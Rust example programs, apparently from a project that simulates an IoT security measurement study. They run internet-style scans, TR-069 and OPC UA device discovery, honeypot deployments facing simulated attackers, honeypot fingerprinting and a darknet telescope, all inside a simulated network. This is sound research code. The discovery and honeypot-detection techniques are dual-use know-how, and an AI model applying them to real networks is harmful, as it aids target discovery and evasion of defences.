    fn on_timer(&mut self, ctx: &mut NetCtx<'_>, _token: u64) {
        let mut issued = 0;
        while issued < self.batch {
            let Some(offset) = self.perm.next() else {
                return; // sweep complete; pending grabs drain on their own
            };
            let addr = Ipv4Addr::from(self.base.wrapping_add(offset as u32));
            for port in [ports::TR069, ports::OPCUA] {
                let conn = ctx.tcp_connect(SockAddr::new(addr, port));
                self.grabs.insert(conn, (addr, port));
                self.probes += 1;
                issued += 1;
            }
        }
        ctx.set_timer(SimDuration::from_millis(100), TICK);
    }

    fn on_tcp_established(&mut self, ctx: &mut NetCtx<'_>, conn: ConnToken) {
        let Some(&(_, port)) = self.grabs.get(&conn) else { return };
        match port {
            ports::TR069 => {
                ctx.tcp_send(conn, ofh_core::wire::tr069::connection_request().render())
            }
            ports::OPCUA => ctx.tcp_send(conn, Hello::probe("opc.tcp://scanner/").encode()),
            _ => {}
        }
    }

    fn on_tcp_data(&mut self, ctx: &mut NetCtx<'_>, conn: ConnToken, data: &Payload) {
        let Some(&(addr, port)) = self.grabs.get(&conn) else { return };
        let finding = match port {
            ports::TR069 => match http::Response::parse(data) {
                Ok(resp) if resp.status == 200 => Inform::parse(
                    &String::from_utf8_lossy(&resp.body),
                )
                .ok()
                .map(Finding::OpenCpe),
                Ok(resp) if resp.status == 401 => Some(Finding::SecuredCpe),
                _ => None,
            },
            ports::OPCUA => Acknowledge::decode(data).ok().map(Finding::OpcUaServer),
            _ => None,
        };
        if let Some(f) = finding {
            self.findings.insert(addr, f);
        }
        self.grabs.remove(&conn);
        ctx.tcp_close(conn);
    }

    fn on_tcp_refused(&mut self, _ctx: &mut NetCtx<'_>, conn: ConnToken) {
        self.grabs.remove(&conn);
    }

    fn on_tcp_timeout(&mut self, _ctx: &mut NetCtx<'_>, conn: ConnToken) {
        self.grabs.remove(&conn);
    }
}

fn main() {
    let seed: u64 = std::env::args().nth(1).and_then(|s| s.parse().ok()).unwrap_or(7);
    let universe = Universe::new(Ipv4Addr::new(16, 0, 0, 0), 16);
    let mut rng = rng_for(seed, "future-scope");
    let mut net = SimNet::new(SimNetConfig { seed, ..SimNetConfig::default() });

    // A synthetic future-scope population: CPEs (most open — the TR-069
    // attack surface Mirai variants exploited) and industrial OPC UA servers.
    let (pop_base, pop_len) = universe.population_space();
    let mut truth = (0u32, 0u32, 0u32);
    for i in 0..400u32 {
        let addr = Ipv4Addr::from(u32::from(pop_base) + rng.gen_range(0..pop_len as u32));
        if net.is_occupied(addr) {
            continue;
        }
        match i % 4 {
            0 | 1 => {
                net.attach(addr, Box::new(Tr069Device::new(false, "Huawei", "HG532e")));
                truth.0 += 1;
            }
            2 => {
                net.attach(addr, Box::new(Tr069Device::new(true, "AVM", "FRITZ!Box 7590")));
                truth.1 += 1;
            }
            _ => {
                net.attach(
                    addr,
                    Box::new(OpcUaDevice::new(&format!("opc.tcp://plc-{i}:4840/"))),
                );
                truth.2 += 1;
            }
        }
    }
    println!(
        "deployed {} open CPEs, {} secured CPEs, {} OPC UA servers",
        truth.0, truth.1, truth.2
    );

    let sid = net.attach(universe.scanner_addr(), Box::new(FutureScanner::new(&universe, seed)));
    net.run_until(SimTime::ZERO + SimDuration::from_hours(2));

    let scanner = net.agent_downcast::<FutureScanner>(sid).unwrap();
    let mut open_cpe = 0u32;
    let mut secured = 0u32;
    let mut opcua = 0u32;
    let mut makes: BTreeMap<String, u32> = BTreeMap::new();
    for f in scanner.findings.values() {
        match f {
            Finding::OpenCpe(inform) => {
                open_cpe += 1;
                *makes.entry(format!("{} {}", inform.manufacturer, inform.product_class)).or_insert(0) += 1;
            }
            Finding::SecuredCpe => secured += 1,
            Finding::OpcUaServer(_) => opcua += 1,
        }
    }
    println!(
        "\nsweep: {} probes over 2^{} addresses x 2 ports",
        scanner.probes, universe.bits
    );
    println!("  TR-069 CPEs answering without auth : {open_cpe} (truth {})", truth.0);
    println!("  TR-069 CPEs requiring auth         : {secured} (truth {})", truth.1);
    println!("  OPC UA servers (HEL/ACK complete)  : {opcua} (truth {})", truth.2);
    println!("\nidentified models (via leaked Informs):");
    for (make, n) in makes {
        println!("  {make}: {n}");
    }
    assert_eq!(open_cpe, truth.0);
    assert_eq!(secured, truth.1);
    assert_eq!(opcua, truth.2);
    println!("\nfuture-scope sweep recovered the ground truth exactly.");
}
