//! Honeypot farm: the paper's §3.3/§4.3/§5 deployment experiment in
//! isolation — six honeypots face a month of simulated attack traffic.
//!
//! Prints Tables 7, 12 and 13 and Figs. 3, 4, 7, 8 and 9.
//!
//! ```sh
//! cargo run --release --example honeypot_farm [seed]
//! ```

use std::net::Ipv4Addr;

use ofh_core::analysis::events::AttackDataset;
use ofh_core::analysis::figures::{AttackTypeBreakdown, Fig3, Fig8, Fig9};
use ofh_core::analysis::table12::Table12;
use ofh_core::analysis::table13::Table13;
use ofh_core::analysis::table7::Table7;
use ofh_core::attack::plan::{AttackPlan, HoneypotSet, PlanConfig};
use ofh_core::attack::{AttackerAgent, InfectedDevice};
use ofh_core::devices::population::{PopulationBuilder, PopulationSpec};
use ofh_core::devices::Universe;
use ofh_core::honeypots::{
    ConpotHoneypot, CowrieHoneypot, DionaeaHoneypot, HosTaGeHoneypot, ThingPotHoneypot,
    UPotHoneypot,
};
use ofh_core::net::{SimDuration, SimNet, SimNetConfig, SimTime};
use ofh_core::oracles::Oracles;

fn main() {
    let seed: u64 = std::env::args().nth(1).and_then(|s| s.parse().ok()).unwrap_or(7);
    let universe = Universe::new(Ipv4Addr::new(16, 0, 0, 0), 18);
    let t0 = std::time::Instant::now();

    // A small population to draw infected devices from.
    let population = PopulationBuilder::new(PopulationSpec {
        universe,
        scale: 4_096,
        seed,
    })
    .build();

    let honeypots = HoneypotSet::in_lab(&universe);
    let month_start = SimTime::from_date(ofh_core::net::SimDate::new(2021, 4, 1));
    let plan_cfg = PlanConfig {
        seed,
        hp_scale: 64,
        infected_scale: 128,
        universe,
        month_start,
        month_days: 30,
        honeypots,
    };
    let plan = AttackPlan::build(&plan_cfg, &population);
    let oracles = Oracles::populate(seed, &plan, &population);
    println!(
        "attack plan: {} actors, {} infected devices, {} tasks",
        plan.actors.len(),
        plan.infected.len() + plan.censys_extra.len(),
        plan.total_tasks()
    );

    // ---- Wire the lab -----------------------------------------------------
    let mut net = SimNet::new(SimNetConfig { seed, ..SimNetConfig::default() });
    let hostage = net.attach(honeypots.hostage, Box::new(HosTaGeHoneypot::new()));
    let upot = net.attach(honeypots.upot, Box::new(UPotHoneypot::new()));
    let conpot = net.attach(honeypots.conpot, Box::new(ConpotHoneypot::new()));
    let thingpot = net.attach(honeypots.thingpot, Box::new(ThingPotHoneypot::new()));
    let cowrie = net.attach(honeypots.cowrie, Box::new(CowrieHoneypot::new()));
    let dionaea = net.attach(honeypots.dionaea, Box::new(DionaeaHoneypot::new()));
    for actor in &plan.actors {
        net.attach(actor.addr, Box::new(AttackerAgent::new(actor.tasks.clone())));
    }
    for inf in plan.infected.iter().chain(&plan.censys_extra) {
        let record = &population.records[inf.record_idx];
        net.attach(
            record.addr,
            Box::new(InfectedDevice::new(record.build_agent(), inf.tasks.clone())),
        );
    }

    // ---- Run April ---------------------------------------------------------
    net.run_until(month_start + SimDuration::from_days(31));
    let logs = vec![
        std::mem::take(&mut net.agent_downcast_mut::<HosTaGeHoneypot>(hostage).unwrap().log).events,
        std::mem::take(&mut net.agent_downcast_mut::<UPotHoneypot>(upot).unwrap().log).events,
        std::mem::take(&mut net.agent_downcast_mut::<ConpotHoneypot>(conpot).unwrap().log).events,
        std::mem::take(&mut net.agent_downcast_mut::<ThingPotHoneypot>(thingpot).unwrap().log).events,
        std::mem::take(&mut net.agent_downcast_mut::<CowrieHoneypot>(cowrie).unwrap().log).events,
        std::mem::take(&mut net.agent_downcast_mut::<DionaeaHoneypot>(dionaea).unwrap().log).events,
    ];
    let dataset = AttackDataset::merge(logs);
    println!("captured {} attack events from {} sources\n", dataset.len(), dataset.sources().len());

    // ---- Reports -------------------------------------------------------------
    println!("{}", Table7::compute(&dataset, &oracles.rdns).render());
    println!("{}", Fig3::compute(&dataset, &oracles.rdns).render());
    let breakdown = AttackTypeBreakdown::compute(&dataset);
    println!("{}", breakdown.render_fig4());
    println!("{}", breakdown.render_fig7());
    println!("{}", Fig8::compute(&dataset, month_start, 30, &plan.listings).render());
    println!("{}", Fig9::compute(&dataset, &oracles.rdns).render());
    println!("{}", Table12::compute(&dataset, 11).render());
    let t13 = Table13::compute(&dataset, &oracles.malware);
    println!(
        "Table 13: {} distinct samples captured ({} Mirai variants); first rows:",
        t13.distinct_samples(),
        t13.variants_of("Mirai")
    );
    for row in t13.rows.iter().take(10) {
        println!("  {}  {}", row.sha256_hex, row.family);
    }
    eprintln!("elapsed: {:?}", t0.elapsed());
}
