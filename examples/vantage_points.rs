//! Vantage points: the paper's closing future-work note — "based on the
//! recent work of Wan et al. we see the need for combining geographically
//! distributed scanners" — and its own motivation for self-scanning: "some
//! networks blocklist Shodan, Censys and other scanning services" (§A.3).
//!
//! This example runs the Telnet sweep from three vantage points, each
//! blocked by a different slice of the address space (networks that filter
//! that scanner's origin), and shows that the union recovers coverage no
//! single vantage point achieves.
//!
//! ```sh
//! cargo run --release --example vantage_points [seed]
//! ```

use std::collections::BTreeSet;
use std::net::Ipv4Addr;

use ofh_core::devices::population::{PopulationBuilder, PopulationSpec};
use ofh_core::devices::Universe;
use ofh_core::net::{Cidr, SimNet, SimNetConfig};
use ofh_core::scan::{scan_start, Scanner, ScannerConfig};
use ofh_core::wire::Protocol;

fn main() {
    let seed: u64 = std::env::args().nth(1).and_then(|s| s.parse().ok()).unwrap_or(7);
    let universe = Universe::new(Ipv4Addr::new(16, 0, 0, 0), 17);
    let population = PopulationBuilder::new(PopulationSpec {
        universe,
        scale: 8_192,
        seed,
    })
    .build();
    let mut net = SimNet::new(SimNetConfig { seed, ..SimNetConfig::default() });
    population.attach_all(&mut net);
    let telnet_truth = population
        .records
        .iter()
        .filter(|r| r.protocol == Protocol::Telnet)
        .count();

    // Three vantage points; each is filtered by a different third of the
    // population region (networks that block that origin).
    let (pop_base, pop_len) = universe.population_space();
    let third = (pop_len / 3) as u32;
    let blocked_for: Vec<Vec<Cidr>> = (0..3u32)
        .map(|v| {
            // Approximate each third with /24-aligned blocks.
            let start = u32::from(pop_base) + v * third;
            (0..third / 256)
                .map(|i| Cidr::new(Ipv4Addr::from(start + i * 256), 24).expect("aligned"))
                .collect()
        })
        .collect();

    let scanner_base = u32::from(universe.scanner_addr());
    let mut ids = Vec::new();
    for (v, blocks) in blocked_for.iter().enumerate() {
        let mut cfg = ScannerConfig::full(
            Protocol::Telnet,
            universe.cidr().first(),
            universe.size(),
            scan_start(Protocol::Telnet),
            seed + v as u64,
        );
        for b in blocks {
            cfg.blocklist.insert(*b);
        }
        let end = Scanner::estimated_end(&cfg);
        let id = net.attach(
            Ipv4Addr::from(scanner_base + v as u32),
            Box::new(Scanner::new(format!("vantage-{v}"), vec![cfg])),
        );
        ids.push((id, end));
    }
    let end = ids.iter().map(|&(_, e)| e).max().unwrap();
    net.run_until(end);

    let mut union: BTreeSet<Ipv4Addr> = BTreeSet::new();
    println!("Telnet hosts in the population: {telnet_truth}\n");
    for (v, &(id, _)) in ids.iter().enumerate() {
        let found = net
            .agent_downcast_mut::<Scanner>(id)
            .unwrap()
            .results
            .unique_addrs(Protocol::Telnet);
        println!(
            "vantage-{v}: sees {:>5} hosts ({:.1}% — one third of the space filters it)",
            found.len(),
            found.len() as f64 * 100.0 / telnet_truth as f64
        );
        union.extend(found);
    }
    println!(
        "\nunion of all vantage points: {} hosts ({:.1}%)",
        union.len(),
        union.len() as f64 * 100.0 / telnet_truth as f64
    );
    assert_eq!(union.len(), telnet_truth, "combined vantage points recover full coverage");
    println!("combined coverage is complete — the Wan et al. argument, measured.");
}
