//! Hunt the honeypot: the paper's §3.2/§4.2 fingerprinting experiment —
//! deploy the nine wild honeypot families among real devices, scan, and
//! show that (a) the passive+active pipeline finds them all, (b) an
//! impostor device wearing a honeypot banner is *not* falsely detected, and
//! (c) without the filter the honeypots would poison Table 5.
//!
//! ```sh
//! cargo run --release --example hunt_the_honeypot [seed]
//! ```

use std::net::Ipv4Addr;

use ofh_core::analysis::table5::Table5;
use ofh_core::devices::endpoints::TelnetDevice;
use ofh_core::devices::population::{PopulationBuilder, PopulationSpec};
use ofh_core::devices::{Misconfig, Universe};
use ofh_core::fingerprint::{engine, FingerprintProber, SignatureDb};
use ofh_core::honeypots::{WildHoneypot, WildHoneypotAgent};
use ofh_core::net::rng::rng_for;
use ofh_core::net::{SimNet, SimNetConfig};
use ofh_core::scan::{scan_start, Scanner, ScannerConfig};
use ofh_core::wire::Protocol;

fn main() {
    let seed: u64 = std::env::args().nth(1).and_then(|s| s.parse().ok()).unwrap_or(7);
    let universe = Universe::new(Ipv4Addr::new(16, 0, 0, 0), 17);
    let scale = 8_192;
    let t0 = std::time::Instant::now();

    let mut population = PopulationBuilder::new(PopulationSpec { universe, scale, seed }).build();
    let mut rng = rng_for(seed, "hunt");
    let mut net = SimNet::new(SimNetConfig { seed, ..SimNetConfig::default() });
    population.attach_all(&mut net);

    // Deploy the wild honeypots (ground truth kept only for the printout).
    let mut deployed: Vec<(Ipv4Addr, WildHoneypot)> = Vec::new();
    for family in WildHoneypot::ALL {
        let n = ((family.paper_count() + scale / 2) / scale).max(1);
        for _ in 0..n {
            let (addr, _) = population.allocator.alloc_weighted(&mut rng).unwrap();
            net.attach(addr, Box::new(WildHoneypotAgent::new(family)));
            deployed.push((addr, family));
        }
    }
    // An impostor: a *real device* whose banner contains the Anglerfish
    // signature. Passive matching alone would flag it.
    let (impostor_addr, _) = population.allocator.alloc_weighted(&mut rng).unwrap();
    net.attach(
        impostor_addr,
        Box::new(TelnetDevice::new(
            "[root@LocalHost tmp]$ lookalike firmware",
            Some(Misconfig::TelnetNoAuth),
            23,
        )),
    );
    println!(
        "deployed {} wild honeypots + 1 impostor device at {impostor_addr}",
        deployed.len()
    );

    // Telnet scan over the whole universe.
    let cfg = ScannerConfig::full(
        Protocol::Telnet,
        universe.cidr().first(),
        universe.size(),
        scan_start(Protocol::Telnet),
        seed,
    );
    let end = Scanner::estimated_end(&cfg);
    let scanner_addr = universe.scanner_addr();
    let zmap = net.attach(scanner_addr, Box::new(Scanner::new("ZMap Scan", vec![cfg])));
    net.run_until(end);
    let results = net.agent_downcast_mut::<Scanner>(zmap).unwrap().results.clone();

    // Stage 1 (passive): signature matching over raw banners.
    let db = SignatureDb::new();
    let candidates = engine::passive_candidates(&db, &results);
    println!(
        "passive stage: {} candidates (includes the impostor: {})",
        candidates.len(),
        candidates.iter().any(|&(a, _, _)| a == impostor_addr)
    );

    // Stage 2 (active): static-response confirmation.
    let n = candidates.len();
    let prober = net.attach(
        Ipv4Addr::from(u32::from(scanner_addr) + 1),
        Box::new(FingerprintProber::new(candidates)),
    );
    net.run_until(net.now() + FingerprintProber::estimated_duration(n));
    let report = net.agent_downcast::<FingerprintProber>(prober).unwrap().report.clone();

    println!("\n== Table 6: detected honeypots ==");
    let counts = report.counts();
    for family in WildHoneypot::ALL {
        let truth = deployed.iter().filter(|&&(_, f)| f == family).count();
        println!(
            "  {:<20} detected {:>2} | deployed {:>2} | paper {:>5}",
            family.name(),
            counts.get(&family).copied().unwrap_or(0),
            truth,
            family.paper_count()
        );
    }
    println!(
        "  total detected {} | rejected candidates (impostors) {}",
        report.total(),
        report.rejected.len()
    );
    assert!(
        !report.filter_set().contains(&impostor_addr),
        "the impostor must NOT be confirmed as a honeypot"
    );

    // The sanitization argument: Table 5 with and without the filter.
    let with_filter = Table5::compute(&results, &report.filter_set());
    let without = Table5::compute(&results, &Default::default());
    println!(
        "\nTable 5 sanitization: {} misconfigured Telnet devices with the filter, \
         {} without — {} honeypots would have poisoned the dataset",
        with_filter.total,
        without.total,
        without.total - with_filter.total
    );
    eprintln!("elapsed: {:?}", t0.elapsed());
}
