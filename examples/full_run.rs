//! The EXPERIMENTS.md run: the `full` preset (2^22-address universe,
//! 1:64 scan scale, 1:8 honeypot scale). Prints the complete report.
//!
//! ```sh
//! cargo run --release --example full_run [seed] [workers] [faults]
//! ```
//!
//! `workers` sizes the shard thread pool (0 = one per core). Any value
//! prints the identical report — only the wall clock changes. `faults` is a
//! schedule: `none` (default), `lossy`, `hostile`, or a JSON schedule file
//! (see examples/faults_brownout.json).

use ofh_core::{Study, StudyConfig};

fn main() {
    let seed: u64 = std::env::args().nth(1).and_then(|s| s.parse().ok()).unwrap_or(7);
    let workers: usize = std::env::args().nth(2).and_then(|s| s.parse().ok()).unwrap_or(0);
    let faults = std::env::args().nth(3).unwrap_or_else(|| "none".into());
    let t0 = std::time::Instant::now();
    let mut cfg = StudyConfig::full(seed);
    cfg.workers = workers;
    cfg.faults = ofh_core::faults_from_arg(&faults).unwrap_or_else(|e| {
        eprintln!("error: {e}");
        std::process::exit(2);
    });
    eprintln!("workers: {}", cfg.worker_threads());
    let report = Study::new(cfg).run_with(|phase| {
        eprintln!("[{:>7.1?}] {phase}", t0.elapsed());
    });
    println!("{}", report.render_full());
    // The observability snapshot: metric summary table, payload-pool hit
    // rate, and the stage → shard → phase profile (wall vs cpu).
    eprint!("{}", report.metrics.render_summary());
    let hits = report.metrics.host.pool_hits;
    let total = hits + report.metrics.host.pool_misses;
    eprintln!(
        "payload pool: {hits}/{total} hits ({:.1}%)",
        if total == 0 { 0.0 } else { 100.0 * hits as f64 / total as f64 }
    );
    eprint!("{}", report.metrics.host.profile.render(1));
    eprintln!("elapsed: {:?}", t0.elapsed());
}
