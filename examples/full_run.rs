//! The EXPERIMENTS.md run: the `full` preset (2^22-address universe,
//! 1:64 scan scale, 1:8 honeypot scale). Prints the complete report.
//!
//! ```sh
//! cargo run --release --example full_run [seed]
//! ```

use ofh_core::{Study, StudyConfig};

fn main() {
    let seed: u64 = std::env::args().nth(1).and_then(|s| s.parse().ok()).unwrap_or(7);
    let t0 = std::time::Instant::now();
    let report = Study::new(StudyConfig::full(seed)).run_with(|phase| {
        eprintln!("[{:>7.1?}] {phase}", t0.elapsed());
    });
    println!("{}", report.render_full());
    eprintln!("elapsed: {:?}", t0.elapsed());
}
