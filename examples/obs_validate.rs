//! Validate emitted observability artifacts against the schema this build
//! understands. Used by ci.sh after a `--metrics-out`/`--trace-out` run:
//!
//! ```sh
//! openforhire study --preset quick --metrics-out m.json --trace-out t.jsonl
//! cargo run --example obs_validate -- m.json t.jsonl
//! ```
//!
//! Checks that the metrics snapshot parses, carries the expected schema
//! version, and is internally consistent ([`MetricsSnapshot::validate`]);
//! and that every trace line is a self-contained JSON object carrying the
//! trace schema version, with a header whose span count matches the file.

use std::process::ExitCode;

use ofh_core::obs::{MetricsSnapshot, TRACE_SCHEMA_VERSION};
use serde::Deserialize;

/// The fields common to the trace header and every span line.
#[derive(Debug, Deserialize)]
struct TraceLine {
    v: u32,
    kind: String,
}

/// The header line's payload. v2 headers identify their run: preset name
/// and shard count ride alongside the schema version.
#[derive(Debug, Deserialize)]
struct TraceHeader {
    v: u32,
    preset: String,
    shards: u32,
    spans: u64,
    emitted: u64,
    dropped: u64,
}

fn validate_metrics(path: &str) -> Result<(), String> {
    let text = std::fs::read_to_string(path).map_err(|e| format!("{path}: {e}"))?;
    let snap: MetricsSnapshot =
        serde_json::from_str(&text).map_err(|e| format!("{path}: parse: {e}"))?;
    snap.validate().map_err(|e| format!("{path}: {e}"))?;
    // The fault/retry accounting lives in the deterministic counter section
    // — present on every run (zero-valued when fault-free) and internally
    // consistent.
    let counter = |name: &str| -> Result<u64, String> {
        snap.counters
            .get(name)
            .copied()
            .ok_or_else(|| format!("{path}: missing deterministic counter {name:?}"))
    };
    for name in [
        "net.udp.dropped",
        "net.udp.corrupted",
        "net.udp.duplicated",
        "net.fault.handshake_drops",
        "net.fault.rate_limited",
        "net.fault.resets_injected",
        "net.fault.churn_suppressed",
        "honeypot.conns_shed",
        "fingerprint.retry.issued",
        "fingerprint.retry.recovered",
    ] {
        counter(name)?;
    }
    let losses = counter("scan.retry.first_attempt_losses")?;
    let issued = counter("scan.retry.issued")?;
    let recovered = counter("scan.retry.recovered")?;
    if recovered > issued || recovered > losses {
        return Err(format!(
            "{path}: retry accounting inconsistent: \
             {recovered} recovered vs {issued} issued / {losses} first-attempt losses"
        ));
    }
    if snap.preset.is_empty() {
        return Err(format!("{path}: snapshot carries no preset name"));
    }
    println!(
        "{path}: ok (schema v{}, preset {}, seed {}, {} shards, {} counters, {} gauges, {} histograms)",
        snap.schema_version,
        snap.preset,
        snap.seed,
        snap.shards,
        snap.counters.len(),
        snap.gauges.len(),
        snap.histograms.len(),
    );
    Ok(())
}

fn validate_trace(path: &str) -> Result<(), String> {
    let text = std::fs::read_to_string(path).map_err(|e| format!("{path}: {e}"))?;
    let mut lines = text.lines();
    let header_line = lines.next().ok_or_else(|| format!("{path}: empty trace"))?;
    let header: TraceHeader =
        serde_json::from_str(header_line).map_err(|e| format!("{path}: header: {e}"))?;
    if header.v != TRACE_SCHEMA_VERSION {
        return Err(format!(
            "{path}: header schema v{} (this build expects v{TRACE_SCHEMA_VERSION})",
            header.v
        ));
    }
    if header.emitted < header.spans + header.dropped {
        return Err(format!(
            "{path}: header claims {} emitted < {} retained + {} dropped",
            header.emitted, header.spans, header.dropped
        ));
    }
    if header.preset.is_empty() || header.shards == 0 {
        return Err(format!(
            "{path}: header lacks run identity (preset {:?}, {} shards)",
            header.preset, header.shards
        ));
    }
    let mut count = 0u64;
    for (i, line) in lines.enumerate() {
        let parsed: TraceLine = serde_json::from_str(line)
            .map_err(|e| format!("{path}: line {}: {e}", i + 2))?;
        if parsed.v != TRACE_SCHEMA_VERSION {
            return Err(format!("{path}: line {}: schema v{}", i + 2, parsed.v));
        }
        if parsed.kind == "trace.header" {
            return Err(format!("{path}: line {}: duplicate header", i + 2));
        }
        count += 1;
    }
    if count != header.spans {
        return Err(format!(
            "{path}: header claims {} spans, file has {count}",
            header.spans
        ));
    }
    println!(
        "{path}: ok (schema v{}, preset {}, {} shards, {count} spans, {} emitted, {} dropped by ring bound)",
        header.v, header.preset, header.shards, header.emitted, header.dropped
    );
    Ok(())
}

fn main() -> ExitCode {
    let mut args = std::env::args().skip(1);
    let (Some(metrics), Some(trace)) = (args.next(), args.next()) else {
        eprintln!("usage: obs_validate <metrics.json> <trace.jsonl>");
        return ExitCode::FAILURE;
    };
    match validate_metrics(&metrics).and_then(|()| validate_trace(&trace)) {
        Ok(()) => ExitCode::SUCCESS,
        Err(e) => {
            eprintln!("error: {e}");
            ExitCode::FAILURE
        }
    }
}
