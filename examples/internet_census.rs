//! Internet census: the paper's §3.1/§4.1 scan experiment in isolation.
//!
//! Builds the scaled IoT population, runs the ZMap-style sweeps plus the
//! Project Sonar and Shodan dataset providers, applies the honeypot filter,
//! and prints Tables 4, 5, 9 and 10 and Fig. 2 side by side with the
//! paper's values.
//!
//! ```sh
//! cargo run --release --example internet_census [seed]
//! ```

use std::net::Ipv4Addr;

use ofh_core::analysis::figures::Fig2;
use ofh_core::analysis::table10::Table10;
use ofh_core::analysis::table4::Table4;
use ofh_core::analysis::table5::Table5;
use ofh_core::devices::population::{PopulationBuilder, PopulationSpec};
use ofh_core::devices::Universe;
use ofh_core::fingerprint::{engine, FingerprintProber, SignatureDb};
use ofh_core::honeypots::{WildHoneypot, WildHoneypotAgent};
use ofh_core::net::rng::rng_for;
use ofh_core::net::{SimNet, SimNetConfig, SimTime};
use ofh_core::scan::{datasets, scan_start, schedule, Scanner, ScannerConfig};
use ofh_core::wire::Protocol;

fn main() {
    let seed: u64 = std::env::args().nth(1).and_then(|s| s.parse().ok()).unwrap_or(7);
    let universe = Universe::new(Ipv4Addr::new(16, 0, 0, 0), 18);
    let scale = 4_096;
    let t0 = std::time::Instant::now();

    // ---- Population (+ wild honeypots hiding in it) ---------------------
    let mut population = PopulationBuilder::new(PopulationSpec { universe, scale, seed }).build();
    let mut rng = rng_for(seed, "census");
    let mut net = SimNet::new(SimNetConfig { seed, ..SimNetConfig::default() });
    population.attach_all(&mut net);
    for family in WildHoneypot::ALL {
        let n = ((family.paper_count() + scale / 2) / scale).max(1);
        for _ in 0..n {
            let (addr, _) = population.allocator.alloc_weighted(&mut rng).unwrap();
            net.attach(addr, Box::new(WildHoneypotAgent::new(family)));
        }
    }
    println!(
        "population: {} devices in a 2^{} universe (scale 1:{scale})",
        population.records.len(),
        universe.bits
    );

    // ---- Scan campaigns (Table 9 schedule) ------------------------------
    println!("\n== Table 9: scan dates per protocol ==");
    for p in Protocol::SCANNED {
        println!("  {:<8} {}", p.name(), schedule::scan_date(p));
    }
    let zmap_cfgs: Vec<ScannerConfig> = Protocol::SCANNED
        .iter()
        .map(|&p| {
            ScannerConfig::full(p, universe.cidr().first(), universe.size(), scan_start(p), seed)
        })
        .collect();
    let scan_end = zmap_cfgs.iter().map(Scanner::estimated_end).max().unwrap();
    let scanner_addr = universe.scanner_addr();
    let zmap = net.attach(scanner_addr, Box::new(Scanner::new("ZMap Scan", zmap_cfgs)));
    let sonar = net.attach(
        Ipv4Addr::from(u32::from(scanner_addr) + 1),
        Box::new(Scanner::new(
            "Project Sonar",
            datasets::sonar_configs(universe.cidr().first(), universe.size(), SimTime::ZERO, seed),
        )),
    );
    let shodan = net.attach(
        Ipv4Addr::from(u32::from(scanner_addr) + 2),
        Box::new(Scanner::new(
            "Shodan",
            datasets::shodan_configs(universe.cidr().first(), universe.size(), SimTime::ZERO, seed),
        )),
    );
    net.run_until(scan_end);
    let zmap_results = net.agent_downcast_mut::<Scanner>(zmap).unwrap().results.clone();
    let sonar_results = net.agent_downcast_mut::<Scanner>(sonar).unwrap().results.clone();
    let shodan_results = net.agent_downcast_mut::<Scanner>(shodan).unwrap().results.clone();
    println!(
        "\nscan finished at {} after {} probes",
        net.now(),
        net.counters().syns_sent + net.counters().udp_datagrams_sent
    );

    // ---- Honeypot sanitization ------------------------------------------
    let db = SignatureDb::new();
    let candidates = engine::passive_candidates(&db, &zmap_results);
    let n = candidates.len();
    let prober = net.attach(
        Ipv4Addr::from(u32::from(scanner_addr) + 3),
        Box::new(FingerprintProber::new(candidates)),
    );
    net.run_until(net.now() + FingerprintProber::estimated_duration(n));
    let filter = net
        .agent_downcast::<FingerprintProber>(prober)
        .unwrap()
        .report
        .filter_set();
    println!("honeypot filter: {} instances removed from scan results\n", filter.len());

    // ---- Reports ---------------------------------------------------------
    let table4 = Table4::compute(&zmap_results, &sonar_results, &shodan_results);
    println!("{}", table4.render());
    let table5 = Table5::compute(&zmap_results, &filter);
    println!("{}", table5.render());
    let misconfigured = Table5::misconfigured_addrs(&zmap_results, &filter);
    println!("{}", Table10::compute(&misconfigured, &population.geo).render());
    println!("{}", Fig2::compute(&zmap_results).render());
    eprintln!("elapsed: {:?}", t0.elapsed());
}
