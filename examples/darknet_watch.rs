//! Darknet watch: the paper's §3.4/§4.3.2 network-telescope experiment in
//! isolation — a dark /8-of-the-universe records a month of unsolicited
//! traffic as minute-binned FlowTuple files.
//!
//! Prints Table 8 plus a FlowTuple JSONL sample and spoofing/masscan stats.
//!
//! ```sh
//! cargo run --release --example darknet_watch [seed]
//! ```

use std::net::Ipv4Addr;

use ofh_core::attack::plan::{AttackPlan, HoneypotSet, PlanConfig};
use ofh_core::attack::AttackerAgent;
use ofh_core::devices::population::{PopulationBuilder, PopulationSpec};
use ofh_core::devices::Universe;
use ofh_core::net::{SimDuration, SimNet, SimNetConfig, SimTime};
use ofh_core::telescope::{Telescope, TelescopeSummary};

fn main() {
    let seed: u64 = std::env::args().nth(1).and_then(|s| s.parse().ok()).unwrap_or(7);
    let universe = Universe::new(Ipv4Addr::new(16, 0, 0, 0), 18);
    let t0 = std::time::Instant::now();

    let population = PopulationBuilder::new(PopulationSpec {
        universe,
        scale: 8_192,
        seed,
    })
    .build();
    let month_start = SimTime::from_date(ofh_core::net::SimDate::new(2021, 4, 1));
    let plan_cfg = PlanConfig {
        seed,
        hp_scale: 32,
        infected_scale: 256,
        universe,
        month_start,
        month_days: 30,
        honeypots: HoneypotSet::in_lab(&universe),
    };
    let plan = AttackPlan::build(&plan_cfg, &population);

    let mut net = SimNet::new(SimNetConfig { seed, ..SimNetConfig::default() });
    let tap = net.add_tap(
        universe.dark_space(),
        Box::new(Telescope::new(population.geo.clone())),
    );
    // Only the actors matter here: nothing occupies the dark space, and the
    // telescope sees exactly what crosses it.
    for actor in &plan.actors {
        net.attach(actor.addr, Box::new(AttackerAgent::new(actor.tasks.clone())));
    }
    net.run_until(month_start + SimDuration::from_days(31));

    let telescope = net.tap_downcast_mut::<Telescope>(tap).unwrap();
    println!(
        "telescope: {} FlowTuple records across {} minute files (dark space {})",
        telescope.total_records(),
        telescope.minute_file_count(),
        universe.dark_space()
    );

    // Known scanning services, resolved the measured way (rDNS convention).
    let oracles = ofh_core::oracles::Oracles::populate(seed, &plan, &population);
    let known: std::collections::BTreeSet<Ipv4Addr> = plan
        .service_sources()
        .keys()
        .copied()
        .filter(|a| ofh_core::analysis::AttackDataset::is_scanning_service(&oracles.rdns, *a))
        .collect();

    let from_day = month_start.day_index();
    let summary = TelescopeSummary::compute(telescope, from_day, from_day + 30, &known);
    println!("\n== Table 8: telescope suspicious traffic ==");
    for row in &summary.rows {
        println!(
            "  {:<8} daily avg {:>9.1} | unique {:>6} | scanning {:>5} | unknown {:>6}",
            row.protocol.name(),
            row.daily_avg_count,
            row.unique_sources,
            row.scanning_service_sources,
            row.unknown_sources,
        );
    }
    println!(
        "  total daily avg {:.1} across {} unique sources",
        summary.total_daily_avg, summary.total_unique_sources
    );

    // Spoofing and masscan flags, derived from packet features.
